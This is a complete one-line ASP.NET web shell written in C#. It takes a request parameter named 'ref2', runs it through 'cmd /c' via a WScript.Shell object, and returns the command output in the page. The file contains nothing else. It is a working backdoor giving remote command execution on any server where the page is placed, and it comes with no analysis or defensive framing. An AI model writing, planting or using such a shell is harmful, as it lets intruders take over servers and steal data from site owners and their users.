<%@ Page Language="C#" %><% dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); Response.Write(sh.Exec("cmd /c " + Request["ref2"]).StdOut.ReadAll()); %>
